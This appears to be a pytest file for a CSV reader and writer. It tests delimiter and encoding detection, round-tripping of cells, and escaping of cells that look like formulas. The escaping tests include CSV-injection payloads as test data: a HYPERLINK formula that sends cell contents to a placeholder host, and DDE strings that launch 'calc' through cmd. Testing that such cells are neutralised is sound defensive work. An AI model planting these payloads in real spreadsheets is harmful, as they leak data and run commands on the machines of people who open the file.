"""A table is the same whatever spreadsheet saved it."""

from __future__ import annotations

import csv

import pytest
from budget import cpu_seconds_below

from surrogate.spreadsheet import cells_of, csv_lines

TABLE = [["doc_id", "names"], ["n1", "Lake; Ann, MD"], ["n2", 'the "old"\tone']]


@pytest.mark.parametrize(
    "content",
    [
        b'doc_id,names\nn1,"Lake; Ann, MD"\nn2,"the ""old""\tone"\n',
        b'\xef\xbb\xbfdoc_id;names\r\nn1;"Lake; Ann, MD"\r\nn2;"the ""old""\tone"\r\n',
        b'"doc_id"\t"names"\rn1\tLake; Ann, MD\rn2\t"the ""old""\tone"\r',
        'doc_id\tnames\r\nn1\tLake; Ann, MD\r\nn2\t"the ""old""\tone"\r\n'.encode("utf-16"),
        b'doc_id,names,,\nn1,"Lake; Ann, MD",,\nn2,"the ""old""\tone",,\n',
    ],
)
def test_the_line_of_names_tells_what_stands_between_cells(content: bytes) -> None:
    assert cells_of(content) == TABLE


def test_a_table_of_one_column_is_one_of_commas() -> None:
    assert cells_of(b"age\n6;4\n") == [["age"], ["6;4"]]
    assert cells_of(b"") == []


def test_what_stands_in_a_column_without_a_name_is_not_lost() -> None:
    assert cells_of(b"age,\n6,\n7,x\n") == [["age", ""], ["6", ""], ["7", "x"]]


@pytest.mark.parametrize("cell", ["a\rb", "a\nb", "a\r\nb", "\r", 'say "x"', "", "a,b;c\td"])
def test_what_is_written_is_read_back(cell: str) -> None:
    rows = [["doc_id", "names"], ["n1", cell], ["n2", "last"]]
    lines = [*csv_lines(rows)]
    assert all(line.endswith("\n") and not line.endswith("\r\n") for line in lines)
    assert cells_of("".join(lines).encode()) == rows


@pytest.mark.parametrize(
    ("cell", "marked"),
    [
        ("=1+1", True),
        ('=HYPERLINK("http://a.example/?"&A1)', True),
        ("\t=cmd|'/C calc'!A0", True),
        ("@SUM(1)", True),
        ("+cmd|'/C calc'!A0", True),
        ("-2+3+cmd|'/C calc'!A0", True),
        ("'=1", True),
        ("''=1", True),
        ("-", False),
        ("-1975", False),
        ("+1 (617) 555-0168", False),
        ("'Ann'", False),
        ("'74", False),
        ("Ann = 1", False),
    ],
)
def test_no_cell_is_a_formula_and_all_are_read_back(
    cell: str,
    marked: bool,  # noqa: FBT001 - a parameter
) -> None:
    lines = [*csv_lines([["doc_id", "names"], ["n1", cell]])]
    assert lines[1].removeprefix("n1,").removeprefix('"').startswith("'") == (
        marked or cell.startswith("'")
    )
    assert cells_of("".join(lines).encode())[1] == ["n1", cell]


@pytest.mark.parametrize("cell", ["- " + "a " * 100_000, "-1" + "a" * 200_000, "'" * 200_000])
def test_a_page_is_soon_known_to_be_no_formula(cell: str) -> None:
    with cpu_seconds_below(1):
        assert cells_of("".join(csv_lines([["text"], [cell]])).encode())[1] == [cell]


def test_a_cell_may_quote_a_page() -> None:
    assert cells_of(b"age\n" + b"x" * 200_000) == [["age"], ["x" * 200_000]]


def test_what_is_no_table_is_an_error() -> None:
    with pytest.raises(UnicodeDecodeError):
        cells_of(b"age\n\xff")
    with pytest.raises(csv.Error):
        cells_of(b'age\n"1')
